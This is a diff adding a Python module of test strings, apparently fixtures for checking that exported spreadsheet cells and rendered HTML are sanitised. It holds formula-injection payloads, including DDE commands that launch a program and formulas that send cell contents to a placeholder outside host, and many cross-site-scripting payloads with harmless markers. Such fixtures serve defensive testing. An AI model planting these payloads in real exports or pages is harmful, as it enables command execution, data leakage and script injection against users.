@@ -1,0 +1,51 @@
+"""Texts that a spreadsheet could run as a formula, or a browser as markup."""
+
+from __future__ import annotations
+
+FORMULAS = (
+    "=1+1",
+    "=cmd|'/C calc'!A0",
+    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    "\uff1d1+1",
+    "\u22121+1",
+    '"=1+1"',
+    ";=1+1",
+    ",=1+1",
+    "{=1+1}",
+    '=IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
+    '=WEBSERVICE("http://example.invalid")',
+    '=DDE("cmd";"/C calc";"x")',
+    "%0A-1+1",
+    "http://example.invalid/=1+1",
+    "mailto:a@example.invalid",
+)
+
+MARKUP = (
+    "<script>window.hurt=1</script>",
+    "</script><script>window.hurt=1</script>",
+    "<img src=x onerror=window.hurt=1>",
+    '"><svg/onload=window.hurt=1>',
+    "' onmouseover='window.hurt=1",
+    "javascript:window.hurt=1",
+    "<!--<script>",
+    "]]><script>window.hurt=1</script>",
+    "&lt;b&gt;bold&lt;/b&gt;",
+    "<b>bold</b>",
+    "\u2028window.hurt=1\u2029",
+    "{{constructor.constructor('window.hurt=1')()}}",
+    "${window.hurt=1}",
+    "<iframe src=javascript:window.hurt=1>",
+    "<a href=javascript:window.hurt=1>x</a>",
+    "\\u003cscript>window.hurt=1",
+    "<style>body{display:none}</style>",
+    "<base href=//example.invalid>",
+)
